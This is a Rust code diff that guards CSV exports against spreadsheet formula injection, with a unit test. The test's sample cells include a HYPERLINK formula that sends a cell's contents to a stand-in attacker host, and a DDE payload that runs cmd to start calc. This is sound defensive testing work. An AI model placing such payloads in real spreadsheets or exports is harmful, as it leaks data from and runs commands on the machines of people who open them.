@@ -365,17 +365,7 @@ where
     R: IntoIterator,
     R::Item: AsRef<[u8]>,
 {
-    let mut writer = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
-    let written = (|| {
-        writer.write_record(header)?;
-        for row in rows {
-            writer.write_record(row)?;
-        }
-        writer.flush()
-    })();
-    let bytes = written
-        .map_err(csv::Error::from)
-        .and_then(|()| writer.into_inner().map_err(|e| e.into_error().into()));
+    let bytes = csv_bytes(header, rows);
     match bytes {
         Ok(bytes) => {
             let disposition = format!("attachment; filename=\"{filename}\"");
@@ -392,5 +382,74 @@ where
             response
         }
         Err(error) => congxa_web::ApiError::internal(error).into_page(),
+    }
+}
+
+/// The CSV itself, every cell made safe for a spreadsheet.
+fn csv_bytes<I, R>(header: &[&str], rows: I) -> Result<Vec<u8>, csv::Error>
+where
+    I: IntoIterator<Item = R>,
+    R: IntoIterator,
+    R::Item: AsRef<[u8]>,
+{
+    let mut writer = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
+    writer.write_record(header.iter().map(|cell| not_a_formula(cell.as_bytes())))?;
+    for row in rows {
+        let row: Vec<R::Item> = row.into_iter().collect();
+        writer.write_record(row.iter().map(|cell| not_a_formula(cell.as_ref())))?;
+    }
+    writer.flush()?;
+    writer.into_inner().map_err(|e| e.into_error().into())
+}
+
+/// A cell that Excel or LibreOffice would read as a formula (it starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
+/// apostrophe, as OWASP advises: what anyone typed into a title, a name or
+/// a comment (`=HYPERLINK(…)`) shows as text and runs nothing. Every column
+/// goes through here: the figures written (counts, dates) never start with
+/// a sign, so no number is changed.
+fn not_a_formula(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
+    match cell.first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => {
+            let mut escaped = Vec::with_capacity(cell.len() + 1);
+            escaped.push(b'\'');
+            escaped.extend_from_slice(cell);
+            std::borrow::Cow::Owned(escaped)
+        }
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
+        let body = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap();
+        csv::Reader::from_reader(body)
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    #[test]
+    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
+        let hostile = [
+            r#"=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")"#,
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let rows = hostile.iter().map(|cell| [*cell, "Tin tức xã", "12"]);
+        let bytes = csv_bytes(&["Đối tượng", "Chuyên mục", "Lượt xem"], rows).unwrap();
+        let read = read_back(&bytes);
+        assert_eq!(read.len(), hostile.len());
+        for (row, cell) in read.iter().zip(hostile) {
+            assert_eq!(row[0], format!("'{cell}"));
+            assert_eq!(row[1], "Tin tức xã", "text is kept as it is");
+            assert_eq!(row[2], "12", "figures are kept as they are");
+        }
     }
 }
